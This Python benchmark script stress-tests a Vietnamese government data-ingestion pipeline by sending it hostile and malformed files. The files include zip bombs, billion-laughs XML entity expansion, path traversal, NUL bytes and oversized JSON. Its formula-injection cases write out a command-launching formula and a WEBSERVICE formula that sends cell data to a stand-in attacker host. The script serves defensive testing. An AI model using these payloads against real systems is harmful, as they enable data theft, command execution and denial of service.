"""What becomes of hostile and broken files, end to end: `python -m benchmarks.bad_input [--only TEXT] [--push]`.

Each case is one file in an empty state folder, taken by `ioc run` in a process of its own; with `--push` the same bytes
are posted to a running push endpoint as well. Printed for each: outcome, the receipt's first message, peak memory and
seconds. Exit code 1 when a case ends otherwise than it must: with a traceback, without a receipt, or with its bytes
not kept.
"""

from __future__ import annotations

import argparse
import csv
import hashlib
import io
import json
import os
import re
import socket
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import quote

import httpx
import openpyxl

from ioc_pipeline.receive import tokens
from ioc_pipeline.settings import Places

IOC = [sys.executable, "-m", "ioc_pipeline.cli.main"]
WORKBOOK = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
LAUGHS = (
    '<!DOCTYPE a [<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)) + "]>"
)


_HEADINGS = ("CẦN SỬA", "CẢNH BÁO", "LƯU Ý", "SỐ LIỆU MÔ PHỎNG", "Đã kiểm", "VÌ SAO")
"""How the lines of a receipt begin that say nothing of the file itself."""


@dataclass(frozen=True)
class Sample:
    """Good deliveries of the feeds, simulated: header and records of dossiers, a department's form, an SDMX message."""

    dossiers: list[dict[str, str]]
    form: bytes
    sdmx: str


@dataclass(frozen=True)
class Case:
    """One file: the feed it is sent to, its name there, its bytes, and the media type for the push endpoint."""

    name: str
    feed: str
    file: str
    make: Callable[[Sample], bytes]
    media: str = "text/csv"


def _csv(rows: list[dict[str, str]]) -> bytes:
    text = io.StringIO()
    writer = csv.DictWriter(text, list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return text.getvalue().encode()


def _with(sample: Sample, **changes: str) -> list[dict[str, str]]:
    first, *rest = sample.dossiers
    return [first | changes, *rest]


def _zip_of(parts: dict[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return packed.getvalue()


def _book_with(sample: Sample, part: str, change: Callable[[bytes], bytes]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(sample.form)) as book:
        return _zip_of({name: change(book.read(name)) if name == part else book.read(name) for name in book.namelist()})


def _form(sample: Sample, cells: Callable[[openpyxl.worksheet.worksheet.Worksheet], None]) -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(sample.form))
    cells(book.worksheets[0])
    packed = io.BytesIO()
    book.save(packed)
    return packed.getvalue()


def _first_commune(sheet: openpyxl.worksheet.worksheet.Worksheet) -> int:
    """The first row of a form to be filled in; the one above it is the example."""
    return [cell.row for cell in sheet["B"] if re.fullmatch(r"\d{5}", str(cell.value))][1]


def _formulas(sheet: openpyxl.worksheet.worksheet.Worksheet) -> None:
    row = _first_commune(sheet)
    sheet.cell(row, 4).value = "=cmd|'/C calc'!A0"
    sheet.cell(row, 5).value = '=WEBSERVICE("http://attacker.invalid/?"&A1)'
    sheet.cell(row + 1, 3).value = '=HYPERLINK("http://attacker.invalid","Xã")'


def _four_provinces(sheet: openpyxl.worksheet.worksheet.Worksheet) -> None:
    row = _first_commune(sheet)
    sheet.cell(row, 2).value, sheet.cell(row, 3).value = None, "Xã Tân Tiến"


def _laughing(sheet: bytes) -> bytes:
    return sheet.replace(b"?>", b"?>" + LAUGHS.encode(), 1).replace(b"<v>0</v>", b"<v>&l9;</v>", 1)


def _bomb(sample: Sample) -> bytes:
    rows = b"<row><c><v>1</v></c></row>" * 40_000
    packed = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(sample.form)) as book,
        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive,
    ):
        for name in book.namelist():
            if name != "xl/worksheets/sheet1.xml":
                archive.writestr(name, book.read(name))
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(b"<worksheet><sheetData>")
            for _ in range(1000):
                sheet.write(rows)
    return packed.getvalue()


def _json(record: dict[str, str], size: int) -> bytes:
    one = json.dumps(record, ensure_ascii=False).encode()
    return b"[" + b",".join([one] * (size // (len(one) + 1))) + b"]"


def _keyed(count: int) -> bytes:
    record = (
        '{"officeCode":"H32.20","indicatorCode":"TM_XK","dataTypeId":2,"dataTypeName":"Ước tính","periodId":10,'
        '"dataYear":2026,"value":%d,"unit":"triệu USD","kieuSo":"period"}'
    ).encode()
    return b'{"data":[' + b",".join(record % n for n in range(count)) + b"]}"


def _surrogate(sample: Sample) -> bytes:
    return json.dumps(_with(sample, TenTTHC="x\ud800y")).encode()


CASES = (
    Case("zip bomb (1 GB in 2.5 MB) as workbook", "nso_monthly", "bom.xlsx", _bomb, WORKBOOK),
    Case("zip bomb as a department's form", "education_pupils", "bom.xlsx", _bomb, WORKBOOK),
    Case("formula injection in a form", "education_pupils", "cong_thuc.xlsx", lambda s: _form(s, _formulas), WORKBOOK),
    Case(
        "formula injection in CSV", "dossiers", "cong_thuc.csv", lambda s: _csv(_with(s, TenTTHC="=cmd|'/C calc'!A0"))
    ),
    Case(
        "XML entity expansion in SDMX",
        "nso_sdmx",
        "cuoi.xml",
        lambda s: s.sdmx.replace("?>", "?>" + LAUGHS, 1).replace("<message:ID>", "<message:ID>&l9;", 1).encode(),
        "application/xml",
    ),
    Case(
        "XML entity expansion in xlsx",
        "nso_monthly",
        "cuoi.xlsx",
        lambda s: _book_with(s, "xl/worksheets/sheet1.xml", _laughing),
        WORKBOOK,
    ),
    Case("path traversal in the name", "dossiers", "a\\..\\..\\..\\etc\\passwd.csv", lambda s: _csv(s.dossiers)),
    Case(
        "one JSON line of 200 MB, records",
        "dossiers",
        "dai.json",
        lambda s: _json(s.dossiers[0], 200 << 20),
        "application/json",
    ),
    Case(
        "one JSON line of 200 MB, five keys",
        "lris_indicators",
        "dai.json",
        lambda s: _keyed(1_200_000),
        "application/json",
    ),
    Case("CSV of one column", "dossiers", "mot_cot.csv", lambda s: "Hồ sơ\nA\nB\n".encode()),
    Case(
        "CSV of 10,000 columns",
        "dossiers",
        "rong.csv",
        lambda s: _csv([row | {f"c{n}": "1" for n in range(10_000)} for row in s.dossiers]),
    ),
    Case("NUL bytes inside", "dossiers", "nul.csv", lambda s: _csv(_with(s, TenTTHC="a\0b"))),
    Case("NUL bytes behind the text", "dossiers", "nul_cuoi.csv", lambda s: _csv(s.dossiers) + b"\0" * 4096),
    Case("lone surrogate in JSON", "dossiers", "thay_the.json", _surrogate, "application/json"),
    Case(
        "lone surrogate in CSV",
        "dossiers",
        "thay_the.csv",
        lambda s: _csv(_with(s, TenTTHC="x?y")).replace(b"x?y", b"x\xed\xa0\x80y"),
    ),
    Case("a date in the year 25", "dossiers", "nam_25.csv", lambda s: _csv(_with(s, NgayTiepNhan="01/11/25"))),
    Case(
        "a date in the year 0025", "dossiers", "nam_0025.csv", lambda s: _csv(_with(s, NgayTiepNhan="00251101080000"))
    ),
    Case(
        "a commune name of four provinces, form",
        "education_pupils",
        "tan_tien.xlsx",
        lambda s: _form(s, _four_provinces),
        WORKBOOK,
    ),
    Case(
        "a commune name of four provinces, CSV", "dossiers", "tan_tien.csv", lambda s: _csv(_with(s, MaXa="Tân Tiến"))
    ),
)


def _environment(home: Path) -> dict[str, str]:
    return {**os.environ, "IOC_HOME": str(home), "COLUMNS": "400", "IOC_LANG": "vi"}


def _sample(folder: Path) -> Sample:
    for feed in ("dossiers", "education_pupils", "nso_sdmx"):
        made = [*IOC, "sample", "--out", str(folder), "--feed", feed, "--dossiers", "60", "--months", "2"]
        whole = {k: v for k, v in _environment(folder / "home").items() if k != "IOC_CONTRACTS"}
        subprocess.run(made, check=True, capture_output=True, env=whole)
    book = next((folder / "education_pupils").glob("*.xlsx"))
    with next((folder / "dossiers").glob("*.csv")).open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    return Sample(rows[:20], book.read_bytes(), next((folder / "nso_sdmx").glob("*.xml")).read_text("utf-8"))


@dataclass
class Outcome:
    """How a case ended; `wrong` is empty when it ended as it must."""

    outcome: str
    said: str
    peak_mib: float
    seconds: float
    wrong: str = ""


def run_case(case: Case, content: bytes, home: Path) -> Outcome:
    """One file through `ioc run` in an empty state folder."""
    inbox = home / "inbox" / case.feed
    inbox.mkdir(parents=True)
    (inbox / case.file).write_bytes(content)
    os.utime(inbox / case.file, (time.time() - 60,) * 2)
    started = time.monotonic()
    with (home / "out.txt").open("wb") as log:
        process = subprocess.Popen([*IOC, "run", "--feed", case.feed], stdout=log, stderr=log, env=_environment(home))
        peak = 0.0
        while process.poll() is None:  # not ru_maxrss: that begins with what the parent had at the fork
            peak = max(peak, _peak(process.pid))
            time.sleep(0.05)
    seconds = time.monotonic() - started
    printed = (home / "out.txt").read_text("utf-8", errors="replace")
    receipt = subprocess.run(
        [*IOC, "receipt", case.feed], capture_output=True, text=True, env=_environment(home), check=False
    ).stdout
    found = Outcome(*_first(receipt), peak, seconds)
    digest = hashlib.sha256(content).hexdigest()
    if "Traceback" in printed or process.returncode not in (0, 1, 2):
        found.wrong = f"exit {process.returncode}: {printed[-300:]}"
    elif not receipt.strip():
        found.wrong = f"no receipt: {printed[-300:]}"
    elif not (home / "landing" / "blobs" / digest[:2] / digest).is_file():
        found.wrong = "the bytes were not kept"
    return found


def _first(receipt: str) -> tuple[str, str]:
    """Outcome and counts of a receipt, and the first thing it wants corrected or said."""
    lines = [line.strip() for line in receipt.splitlines() if line.strip()]
    result = next((line.partition(":")[2].strip() for line in lines if line.startswith("Kết quả")), "–")
    counts = next((line for line in lines if line.startswith("Nhận ") and "dòng" in line), "")
    after = lines[lines.index(counts) + 1 :] if counts else lines
    said = next((line for line in after if not line.startswith(_HEADINGS)), "")
    at = after.index(said) if said else 0
    more = after[at + 1] if said[:1].isdigit() and at + 1 < len(after) else ""
    return f"{result} ({counts})" if counts else result, f"{said} {more}".strip()


def _peak(pid: int) -> float:
    """Peak resident memory of a process in MiB, since it began or since `clear_refs` was written; 0 when it is gone."""
    try:
        status = Path(f"/proc/{pid}/status").read_text(encoding="ascii", errors="replace")
    except OSError:
        return 0.0
    found = re.search(r"VmHWM:\s+(\d+)", status)
    return int(found.group(1)) / 1024 if found else 0.0


class Endpoint:
    """A push server of its own, and its peak memory."""

    def __init__(self, home: Path) -> None:
        with socket.socket() as free:
            free.bind(("127.0.0.1", 0))
            self.port = free.getsockname()[1]
        self.home = home
        until = datetime.now(UTC) + timedelta(days=1)
        self.token = tokens.create(Places(home), "vp_ubnd", sorted({case.feed for case in CASES}), until)[1]
        self.process = subprocess.Popen(
            [
                *IOC,
                "push-server",
                "--port",
                str(self.port),
                "--no-publish",
                "--patience",
                "300",
                "--max-mib",
                "300",
                "--per-minute",
                "10000",
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            env=_environment(home),
        )
        for _ in range(300):
            with socket.socket() as probe:
                if probe.connect_ex(("127.0.0.1", self.port)) == 0:
                    return
            time.sleep(0.1)
        raise TimeoutError("the push server did not start")

    def post(self, case: Case, content: bytes) -> Outcome:
        """One file posted; its peak memory is the server's since the post began."""
        Path(f"/proc/{self.process.pid}/clear_refs").write_text("5", encoding="ascii")
        started = time.monotonic()
        answer = httpx.post(
            f"http://127.0.0.1:{self.port}/feeds/{case.feed}",
            content=content,
            headers={
                "Authorization": f"Bearer {self.token}",
                "Content-Type": case.media,
                "Content-Disposition": f"attachment; filename*=UTF-8''{quote(case.file)}",
                "Accept": "text/plain",
                "Accept-Language": "vi",
            },
            timeout=600,
            trust_env=False,
        )
        seconds = time.monotonic() - started
        result, said = _first(answer.text)
        found = Outcome(f"{answer.status_code} {result}", said, _peak(self.process.pid), seconds)
        if answer.status_code >= 500 or not answer.text.strip():
            found.wrong = answer.text[:300] or "no answer"
        digest = hashlib.sha256(content).hexdigest()
        if (
            answer.status_code in (200, 201, 202, 422)
            and not (self.home / f"landing/blobs/{digest[:2]}/{digest}").is_file()
        ):
            found.wrong = "the bytes were not kept"
        return found

    def close(self) -> None:
        """Stop the server."""
        self.process.terminate()
        self.process.wait(30)


def main() -> None:
    """Exit code 1 when a case ends otherwise than it must."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--only", default="", help="cases whose name holds this text")
    parser.add_argument("--push", action="store_true", help="post every file to a push endpoint as well")
    options = parser.parse_args()
    wrong = 0
    with tempfile.TemporaryDirectory(prefix="bad_input-") as folder:
        sample = _sample(Path(folder) / "sample")
        home = Path(folder) / "pushed"
        home.mkdir()
        endpoint = Endpoint(home) if options.push else None
        try:
            for number, case in enumerate(c for c in CASES if options.only in c.name):
                content = case.make(sample)
                ways = [("run", run_case(case, content, Path(folder) / str(number)))]
                if endpoint is not None:
                    ways.append(("push", endpoint.post(case, content)))
                print(f"{case.name} · {case.feed} · {len(content) / 1024:,.0f} KiB")
                for way, found in ways:
                    wrong += bool(found.wrong)
                    print(f"    {way:4} {found.outcome} · {found.peak_mib:.0f} MiB · {found.seconds:.1f} s")
                    print(f"         {(found.wrong and 'WRONG: ' + found.wrong) or found.said}", flush=True)
        finally:
            if endpoint is not None:
                endpoint.close()
    raise SystemExit(bool(wrong))


if __name__ == "__main__":
    main()
